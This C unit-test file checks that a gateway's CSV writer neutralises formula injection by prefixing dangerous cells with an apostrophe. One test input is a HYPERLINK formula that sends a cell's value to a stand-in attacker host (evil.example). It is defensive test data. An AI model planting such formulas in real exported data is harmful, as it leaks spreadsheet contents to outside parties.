/*
 * test_csv_rumus.c - unit tests of the gateway's CSV writer (gateway/src/csv.c,
 * compiled into this program and linked with jansson) against CSV formula
 * injection (#16.7): a text cell starting with =, +, -, @, a tab or a carriage
 * return is written with a leading apostrophe inside its quotes, so that a
 * spreadsheet shows it as text; JSON numbers stay bare (-0.5 is a number), and
 * other text is written as before.
 */
#include <stdlib.h>

#include "tap.h"
#include "../../gateway/src/csv.c"

/* The CSV of a JSON array of rows, as a C string (static buffer). */
static const char *
csv_of(const char *json)
{
	static char out[4096];
	json_error_t err;
	json_t	   *rows = json_loads(json, JSON_DECODE_ANY, &err);
	size_t		len = 0;
	char	   *text;

	if (rows == NULL)
		return "(invalid JSON)";
	text = gw_csv_write(rows, &len);
	json_decref(rows);
	if (text == NULL)
		return "(NULL)";
	snprintf(out, sizeof(out), "%.*s", (int) len, text);
	free(text);
	return out;
}

int
main(void)
{

	/* the predicate */
	ok(gw_csv_formula_start("=1+2", 4), "= starts a formula");
	ok(gw_csv_formula_start("+1", 2), "+ starts a formula");
	ok(gw_csv_formula_start("-5", 2), "- starts a formula (text that looks like a negative number too)");
	ok(gw_csv_formula_start("@SUM(A1)", 8), "@ starts a formula");
	ok(gw_csv_formula_start("\tx", 2), "a tab starts a formula");
	ok(gw_csv_formula_start("\rx", 2), "a carriage return starts a formula");
	ok(!gw_csv_formula_start("", 0), "the empty text does not");
	ok(!gw_csv_formula_start("Posyandu = 3", 12), "= inside the text does not");
	ok(!gw_csv_formula_start(" =1", 3), "a leading space does not (OWASP's list)");
	ok(!gw_csv_formula_start("\n=1", 3), "a leading line feed does not (OWASP's list)");

	/* the writer */
	is_str(csv_of("[{\"judul\": \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"Klik\\\")\"}]"),
		   "\"judul\"\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"\r\n",
		   "the HYPERLINK title gets an apostrophe inside its quotes, its quotes doubled");
	is_str(csv_of("[{\"a\": \"+1\", \"b\": \"-5\", \"c\": \"@x\", \"d\": \"\\tx\", \"e\": \"\\rx\", \"f\": \"ok\"}]"),
		   "\"a\",\"b\",\"c\",\"d\",\"e\",\"f\"\r\n\"'+1\",\"'-5\",\"'@x\",\"'\tx\",\"'\rx\",\"ok\"\r\n",
		   "+, - (text), @, tab and CR cells are prefixed and quoted; plain text is not prefixed");
	is_str(csv_of("[{\"n\": -0.5, \"i\": -12, \"j\": 12, \"z\": 0.25}]"),
		   "\"n\",\"i\",\"j\",\"z\"\r\n-0.5,-12,12,0.25\r\n",
		   "JSON numbers stay bare numbers: -0.5, -12, 12, 0.25");
	is_str(csv_of("[{\"t\": true, \"x\": null, \"o\": [\"=1\"]}]"),
		   "\"t\",\"x\",\"o\"\r\ntrue,,\"[\"\"=1\"\"]\"\r\n",
		   "booleans, null and nested JSON (starting with [ or {) as before");
	is_str(csv_of("[{\"=k\": 1}]"), "\"'=k\"\r\n1\r\n", "a header name is neutralised too");
	is_str(csv_of("[{\"=\": \"'=1\", \"'=\": \"'\"}]"), "\"'=\",\"''=\"\r\n\"''=1\",\"''\"\r\n",
		   "text starting with an apostrophe gets one more: the headers = and '= stay two columns (found by fuzz_gw_csv)");
	ok(gw_csv_apostrophe("'x", 2) && gw_csv_apostrophe("=x", 2) && !gw_csv_apostrophe("x'", 2) && !gw_csv_apostrophe("", 0),
	   "gw_csv_apostrophe: formula starts and a leading apostrophe, nothing else");
	is_str(csv_of("[]"), "", "no rows: an empty body");

	return done_testing();
}
